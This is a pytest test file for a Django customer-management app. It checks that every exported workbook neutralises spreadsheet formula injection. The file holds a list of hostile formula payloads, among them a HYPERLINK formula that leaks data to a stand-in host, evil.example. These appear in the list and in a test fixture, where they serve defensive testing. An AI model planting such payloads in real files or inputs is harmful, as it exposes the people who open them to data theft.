"""Formula injection, as a class (issue 10 item 1): every cell Kehu writes to a spreadsheet is text unless Kehu
typed it as a number or date, and text that a spreadsheet program would run (`= + - @`, tab, CR) is neutralised
as OWASP recommends. One writer (`kehu.core.xlsx.Book`) makes every workbook; nothing else in kehu imports
openpyxl; and every route that answers a workbook — discovered by walking the URL configuration, with the records
every module builds for the leak test and every registered importer and exporter — is checked cell by cell."""

import ast
from datetime import date, datetime
from decimal import Decimal
from io import BytesIO
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import URLPattern, URLResolver, get_resolver, reverse
from django.utils import timezone

import kehu
from kehu.core import filejobs, importing, xlsx
from kehu.core.models import FileJob
from kehu.core.xlsx import Book, cell_value, formula_cells, read_cells, safe_text
from kehu.customers import services
from tests.scope_oracle import BUILDERS
from tests.support.inputs import typed_text_fields

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak","点我")',
    "=2+2",
    "+86+1",
    "-1+2",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
]


# --- the writer -------------------------------------------------------------------------------------
@pytest.mark.parametrize("text", HOSTILE)
def test_text_a_spreadsheet_would_run_is_written_with_an_apostrophe(text):
    assert safe_text(text) == f"'{text}"
    book = Book()
    book.sheet("x").append([text])
    [[value]] = read_cells(book.content())
    assert value == f"'{text}".replace("\r", "\n")  # (XML reads a carriage return back as a line feed)
    assert formula_cells(book.content()) == []


def test_only_values_kehu_typed_are_numbers_or_dates():
    when = timezone.make_aware(datetime(2026, 5, 1, 9, 30))
    book = Book(write_only=True)
    book.sheet("x").append([42, -3, Decimal("1.50"), date(2026, 5, 1), when, True, None, "42", "-3", "2026-05-01"])
    [row] = read_cells(book.content())
    assert row[:7] == [42, -3, 1.5, datetime(2026, 5, 1), datetime(2026, 5, 1, 9, 30), True, None]
    assert row[7:] == ["42", "'-3", "2026-05-01"]  # text stays text, a leading minus is neutralised


def test_characters_a_workbook_cannot_hold_are_dropped_instead_of_breaking_the_export():
    assert cell_value("铃\x07声\x1b") == "铃声"
    assert cell_value(object.__new__(type("Odd", (), {"__str__": lambda self: "=odd"}))) == "'=odd"


def test_no_module_but_the_core_writer_imports_openpyxl():
    root = Path(kehu.__file__).parent
    offenders = []
    for path in root.rglob("*.py"):
        if path == root / "core" / "xlsx.py" or "migrations" in path.parts:
            continue
        for node in ast.walk(ast.parse(path.read_text())):
            names = []
            if isinstance(node, ast.Import):
                names = [alias.name for alias in node.names]
            elif isinstance(node, ast.ImportFrom):
                names = [node.module or ""]
            if any(name == "openpyxl" or name.startswith("openpyxl.") for name in names):
                offenders.append(str(path.relative_to(root)))
    assert offenders == []


# --- every route that answers a workbook ------------------------------------------------------------
def _routes(resolver=None, namespace=""):
    resolver = resolver or get_resolver()
    for pattern in resolver.url_patterns:
        if isinstance(pattern, URLResolver):
            yield from _routes(pattern, f"{namespace}{pattern.namespace}:" if pattern.namespace else namespace)
        elif isinstance(pattern, URLPattern) and pattern.name:
            yield f"{namespace}{pattern.name}", list(pattern.pattern.regex.groupindex)


def _poison_typed_text():
    """Every text field people type (those a model form offers) of every record set to a formula, directly in
    the database: what an older version, a restore or a bug could have stored."""
    for model, name in typed_text_fields():
        field = model._meta.get_field(name)
        if field.unique or name in _in_unique_sets(model):
            continue  # keys (codes) are not free text
        for index, pk in enumerate(model.objects.values_list("pk", flat=True)):
            value = HOSTILE[index % len(HOSTILE)][: field.max_length or None]
            model.objects.filter(pk=pk).update(**{name: value})


def _in_unique_sets(model) -> set[str]:
    names = {name for together in model._meta.unique_together for name in together}
    for constraint in model._meta.constraints:
        names |= set(getattr(constraint, "fields", ()) or ())
    return names


def _hostile_upload(importer) -> SimpleUploadedFile:
    """The importer's own template with two rows of formulas in every column."""
    template = read_cells(importer.template())
    book = Book()
    sheet = book.sheet("import")
    sheet.worksheet.append(template[0])  # the headers as the template has them
    for offset in range(2):
        sheet.worksheet.append(
            [HOSTILE[(offset + i) % len(HOSTILE)] for i in range(len(template[0]))]
        )  # raw: the file comes from another program, formulas and all
    return SimpleUploadedFile("hostile.xlsx", book.content())


@pytest.fixture
def hostile_records(org, settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path
    for build in BUILDERS.values():
        build(org)
    # a customer typed with formulas through the service, and one with a formula contact
    services.create_customer(org.admin, {"name": '=HYPERLINK("http://evil.example","x")'}, [])
    services.create_customer(org.admin, {"name": "正常公司", "notes": "@cmd"}, [{"name": "=1+1", "mobile": ""}])
    _poison_typed_text()
    for resource in sorted(importing._importers):
        importer = importing.importer_for(resource)(org.admin)
        filejobs.start_import(org.admin, resource, _hostile_upload(importer))
    for resource in sorted(filejobs._exporters):
        filejobs.start_export(org.admin, resource, {"scope": "all", "tab": "all", "query": ""}, 1)
    return org


QUERIES = ("", "scope=all", "tab=all")


def _content(response) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


def test_every_workbook_any_route_answers_holds_no_live_formula(client, hostile_records):
    org = hostile_records
    client.force_login(org.admin)
    jobs = list(FileJob.objects.filter(created_by=org.admin).values_list("pk", flat=True))
    workbooks: dict[str, bytes] = {}
    for name, arguments in _routes():
        if not arguments:
            urls = [reverse(name)]
        elif arguments == ["pk"]:
            urls = [reverse(name, kwargs={"pk": pk}) for pk in jobs]
        else:
            continue
        for url in urls:
            for query in QUERIES:
                response = client.get(f"{url}?{query}" if query else url)
                if response.status_code == 200 and response.get("Content-Type", "").startswith(xlsx.CONTENT_TYPE):
                    workbooks[f"{name} {url}?{query}"] = _content(response)
    found = {key.split()[0] for key in workbooks}
    # the walk reaches every kind of workbook Kehu writes today: list exports (page, API, background job),
    # the import template and the import error report
    assert found >= {
        "customers:export",
        "api:customer-export",
        "customers:export_download",
        "customers:import_template",
        "customers:import_job_errors",
    }
    for key, content in workbooks.items():
        assert formula_cells(content) == [], key
    exported = {
        value for key, content in workbooks.items() if "export" in key for row in read_cells(content) for value in row
    }
    assert exported >= {f"'{text}" for text in HOSTILE[:5]}  # the poisoned names, contacts, labels: neutralised
    errors = [content for key, content in workbooks.items() if key.startswith("customers:import_job_errors")]
    reported = {value for content in errors for row in read_cells(content) for value in row}
    assert reported >= {"'+86+1", "'-1+2", "'@SUM(1,2)"}  # (cells written as formulas arrive without a value)


def test_an_exported_file_imports_back_as_it_was_typed(org, settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path
    from kehu.customers import exports
    from kehu.customers.imports import CustomerImport

    services.create_customer(org.admin, {"name": "=2+2 贸易", "tags": "-重点"}, [])
    out = BytesIO()
    exports.write_export(exports.export_queryset(org.admin, scope="all"), out)
    importer = CustomerImport(org.admin)
    importer.check()
    rows = list(importer.read(BytesIO(out.getvalue())))
    values, errors = importer.normalise_cells(rows[0][0], rows[0][1])
    assert errors == []
    assert (values["name"], values["tags"]) == ("=2+2 贸易", "-重点")
